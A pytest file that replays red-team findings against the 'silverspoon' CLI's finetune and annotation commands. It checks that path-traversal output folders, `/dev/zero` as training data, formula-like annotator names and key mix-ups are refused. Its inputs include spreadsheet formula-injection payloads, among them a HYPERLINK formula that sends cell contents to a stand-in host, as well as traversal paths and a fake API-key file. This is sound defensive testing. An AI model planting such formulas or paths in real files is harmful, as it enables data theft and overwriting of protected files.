"""Red-team round 3 (issue 31), replayed: `silverspoon finetune` writing over a committed adapter (#3), `annotate sheet`
replacing a key and `collect` pairing answers with the wrong progressions (#5), and the low findings of the same area
(formula annotator names, `--annotators=-2-3`, `--out` onto key.csv, a non-key file echoed, `train_file: /dev/zero`).
Each attack must end in one clear error (file, field, fix; exit != 0) with nothing committed changed."""
import hashlib, subprocess
from pathlib import Path
import pytest
import pandas as pd
import yaml

from conftest import ROOT
ADAPTER = ROOT/"adapters"/"stop-finetune-smollm2-cpu"


def _hashes(folder:Path)->dict:
    "sha256 of every file under `folder` (the set of names included: a new file shows)."
    return {p.relative_to(folder).as_posix(): hashlib.sha256(p.read_bytes()).hexdigest() for p in sorted(folder.rglob("*")) if p.is_file()}


def _one_clear_error(r, *needles):
    assert r.returncode == 2, (r.returncode, r.stdout, r.stderr)
    assert "Traceback" not in r.stderr and r.stderr.strip().count("\n") == 0, r.stderr
    for n in needles: assert n in r.stderr, r.stderr


# --- #3: finetune output_dir ------------------------------------------------------------------------------------------

def _finetune_copy(tmp_path:Path, output_dir)->Path:
    """The committed CPU adapter's params, copied, with `output_dir` set. The base model id points nowhere: were the output check
    missing, the run would fail at model load, after writing its first files (the finding's 'even a failing run writes files first')."""
    d = yaml.safe_load((ADAPTER/"finetune_params.yaml").read_text())
    d["model"]["id"] = str(tmp_path/"no-such-model"); d["output_dir"] = output_dir
    f = tmp_path/"stop-finetune-smollm2-cpu.yaml"; f.write_text(yaml.safe_dump(d, sort_keys=False)); return f


@pytest.mark.parametrize("output_dir", ["../adapters/stop-finetune-smollm2-cpu", str(ADAPTER), "sub/../../adapters/stop-finetune-smollm2-cpu", "TMP"])
def test_finetune_output_dir_outside_finetune_is_refused_before_any_write(tmp_path, cli, output_dir):
    before = _hashes(ADAPTER)
    if output_dir == "TMP": output_dir = str(tmp_path/"anywhere")     # absolute, outside the project
    f = _finetune_copy(tmp_path, output_dir)
    for extra in (["--check"], []):
        r = cli("finetune", f, *extra)
        _one_clear_error(r, f"{f}: field `output_dir` = {output_dir!r}", "outside the project's finetune/ folder", "remove the field")
        assert "ok" not in r.stdout
    assert _hashes(ADAPTER) == before                      # the committed adapter: same files, same bytes
    assert not (tmp_path/"anywhere").exists()


def test_finetune_output_dir_option_onto_committed_adapter_is_refused(tmp_path, cli):
    before = _hashes(ADAPTER)
    f = _finetune_copy(tmp_path, None)
    for target in (ADAPTER, ROOT/"finetune"/".."/"adapters"/"stop-finetune-smollm2-cpu", ROOT/"reports"):
        for extra in (["--check"], []):
            _one_clear_error(cli("finetune", f, "--output-dir", target, *extra), "--output-dir", "outside finetune/", "leave --output-dir out")
    assert _hashes(ADAPTER) == before
    r = cli("finetune", f, "--check")                       # the default destination, shown by --check
    assert r.returncode == 0 and f"writes {(ROOT/'finetune'/'stop-finetune-smollm2-cpu').resolve()}" in r.stdout, r.stderr


def test_finetune_output_dir_holding_committed_files_is_refused(tmp_path, cli):
    "A scratch --output-dir outside the project is allowed, but not a folder of another checkout that holds committed files."
    repo = tmp_path/"other-checkout"; (repo/"adapter").mkdir(parents=True); (repo/"adapter"/"adapter_model.safetensors").write_bytes(b"weights")
    git = lambda *a: subprocess.run(["git", "-C", str(repo), "-c", "user.name=t", "-c", "user.email=t@t", *a], check=True, capture_output=True)
    try: git("init", "-q"); git("add", "."); git("commit", "-qm", "adapter")
    except (OSError, subprocess.CalledProcessError): pytest.skip("git unavailable")
    f = _finetune_copy(tmp_path, None)
    _one_clear_error(cli("finetune", f, "--output-dir", repo, "--check"), "committed to git", "adapter/adapter_model.safetensors")
    assert (repo/"adapter"/"adapter_model.safetensors").read_bytes() == b"weights"
    r = cli("finetune", f, "--output-dir", tmp_path/"scratch", "--check")
    assert r.returncode == 0 and str((tmp_path/"scratch").resolve()) in r.stdout, r.stderr


def test_finetune_train_file_dev_zero_is_refused(tmp_path, cli):
    "Low: `train_file: /dev/zero` read until MemoryError; now refused (not a regular file) by --check and by the run, nothing written."
    d = yaml.safe_load(_finetune_copy(tmp_path, None).read_text())
    d["data"].update(source="jsonl", train_file="/dev/zero"); d["run"] = "r3-dev-zero"
    f = tmp_path/"devzero.yaml"; f.write_text(yaml.safe_dump(d, sort_keys=False))
    for extra in (["--check"], []):
        _one_clear_error(cli("finetune", f, *extra), f"{f}: field `data.train_file`: /dev/zero is not a regular file", "name a JSONL file")
    assert not (ROOT/"finetune"/"r3-dev-zero").exists()
    from silverspoon.studies.stop import stop_finetune as sf
    big = tmp_path/"big.jsonl"; big.write_bytes(b"\n" * 64)
    orig = sf.MAX_SFT_BYTES
    try:
        sf.MAX_SFT_BYTES = 16                                # the size cap, on a small file (a file over it is refused, not read whole)
        with pytest.raises(sf.DataError, match="is larger than"): sf.read_sft_jsonl(big, "field `data.train_file`")
    finally: sf.MAX_SFT_BYTES = orig


# --- #5 and lows: annotation sheets -----------------------------------------------------------------------------------

def _fill(sheet:Path, out:Path|None=None, annotator:str|None=None)->Path:
    "Answer every row yes (a valid filled sheet: no gaps), in place unless `out` is given."
    s = pd.read_csv(sheet, dtype=str, keep_default_na=False).assign(answer="yes")
    if annotator is not None: s["annotator"] = annotator
    out = out or sheet; s.to_csv(out, index=False); return out


def test_annotate_sheet_rerun_into_the_same_folder_keeps_key_and_filled_sheets(tmp_path, cli):
    d = tmp_path/"sheets"
    assert cli("annotate", "sheet", d, "--n", 6, "--seed", 0, "--annotators", "ann1", "ann2").returncode == 0
    _fill(d/"sheet-ann1.csv")                                 # ann1 has returned a filled sheet into the folder
    before = _hashes(d)
    r = cli("annotate", "sheet", d, "--n", 6, "--seed", 1, "--annotators", "ann1", "ann2")
    _one_clear_error(r, f"{d/'key.csv'}: already exists", "another folder", "delete it first")
    assert _hashes(d) == before                               # key, sheets, forms, instructions: same bytes
    (d/"key.csv").unlink()                                    # the key deleted on purpose: a filled sheet is still not blanked
    before = _hashes(d)
    _one_clear_error(cli("annotate", "sheet", d, "--n", 6, "--seed", 1, "--annotators", "ann1", "ann2"),
                     f"{d/'sheet-ann1.csv'}: already exists and holds answers", "would blank it")
    assert _hashes(d) == before


def test_annotate_collect_with_another_key_is_refused(tmp_path, cli):
    "The finding: sheets of seed 0 collected with the key of seed 1 gave answers to other progressions (alpha 1.000)."
    a, b = tmp_path/"seed0", tmp_path/"seed1"
    for d, seed in ((a, 0), (b, 1)):
        assert cli("annotate", "sheet", d, "--n", 6, "--seed", seed, "--annotators", "ann1", "ann2").returncode == 0
    sheets = [_fill(a/f"sheet-{x}.csv") for x in ("ann1", "ann2")]
    r = cli("annotate", "collect", b/"key.csv", *sheets, "--out", tmp_path/"human.csv", "--n-boot", 20)
    _one_clear_error(r, f"{sheets[0]}: row 2: the text of item", "written with another key", "collect it with its own key.csv")
    assert "alpha" not in r.stdout and not (tmp_path/"human.csv").exists()
    r = cli("annotate", "collect", a/"key.csv", *sheets, "--out", tmp_path/"human.csv", "--n-boot", 20)   # its own key: collected
    assert r.returncode == 0 and (tmp_path/"human.csv").exists(), r.stderr


@pytest.mark.parametrize("names", [["--annotators=-2-3"], ["--annotators", "=1+1"], ["--annotators", "@SUM(A1)"], ["--annotators", "ann1", "+cmd"]])
def test_annotator_names_that_are_formulas_are_refused(tmp_path, cli, names):
    d = tmp_path/"sheets"
    _one_clear_error(cli("annotate", "sheet", d, "--n", 3, *names), "--annotators", "start with a letter or digit", "--annotators ann1 ann2 ann3")
    assert not d.exists()


def test_collect_refuses_a_sheet_whose_annotator_is_a_formula(tmp_path, cli):
    d = tmp_path/"sheets"
    assert cli("annotate", "sheet", d, "--n", 3, "--annotators", "ann1").returncode == 0
    f = _fill(d/"sheet-ann1.csv", tmp_path/"edited.csv", annotator='=HYPERLINK("http://x.example/?"&A1,"ok")')
    _one_clear_error(cli("annotate", "collect", d/"key.csv", f, "--out", tmp_path/"h.csv", "--n-boot", 20),
                     f"{f}: row 2: the annotator starts with '='", "plain name")
    assert not (tmp_path/"h.csv").exists()


def test_collect_out_onto_the_key_or_a_sheet_is_refused(tmp_path, cli):
    d = tmp_path/"sheets"
    assert cli("annotate", "sheet", d, "--n", 3, "--annotators", "ann1").returncode == 0
    f = _fill(d/"sheet-ann1.csv", tmp_path/"filled.csv")
    before = _hashes(d) | {"filled": hashlib.sha256(f.read_bytes()).hexdigest()}
    for out in (d/"key.csv", f):
        _one_clear_error(cli("annotate", "collect", d/"key.csv", f, "--out", out, "--n-boot", 20), f"{out}: exists and is not a human file", "--out")
    assert _hashes(d) | {"filled": hashlib.sha256(f.read_bytes()).hexdigest()} == before
    assert cli("annotate", "collect", d/"key.csv", f, "--out", tmp_path/"h.csv", "--n-boot", 20).returncode == 0
    assert cli("annotate", "collect", d/"key.csv", f, "--out", tmp_path/"h.csv", "--n-boot", 20).returncode == 0   # its own earlier output: replaced


def test_collect_with_a_non_key_file_names_it_without_echoing_it(tmp_path, cli):
    d = tmp_path/"sheets"
    assert cli("annotate", "sheet", d, "--n", 3, "--annotators", "ann1").returncode == 0
    f = _fill(d/"sheet-ann1.csv", tmp_path/"filled.csv")
    secret = tmp_path/"credentials.env"; secret.write_text("OPENAI_API_KEY=sk-r3-do-not-print-0123456789\nOTHER=1\n")
    for key in (secret, f):                                   # a secrets file, or a sheet passed where the key goes
        r = cli("annotate", "collect", key, f, "--out", tmp_path/"h.csv")
        _one_clear_error(r, f"{key}: not a key file", "columns item, progression_id")
        assert "sk-r3" not in r.stderr + r.stdout and "OPENAI_API_KEY" not in r.stderr + r.stdout and "annotator" not in r.stderr
